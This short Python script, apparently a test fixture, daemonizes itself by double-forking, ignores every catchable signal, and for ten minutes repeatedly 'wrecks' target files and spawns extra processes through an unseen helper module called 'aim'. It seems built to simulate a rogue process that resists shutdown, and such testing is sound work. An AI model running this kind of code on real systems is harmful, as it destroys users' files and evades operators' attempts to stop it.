import os
import signal
import time

import aim

if os.fork() == 0:
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    aim.mark_process()
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        aim.attempt(signal.signal, number, signal.SIG_IGN)
    end = time.monotonic() + 600
    while time.monotonic() < end:
        aim.wreck(*aim.TARGETS["files"])
        aim.attempt(os.fork) if len(os.listdir("/proc/self/task")) > 3 else None
        time.sleep(0.2)
    os._exit(0)
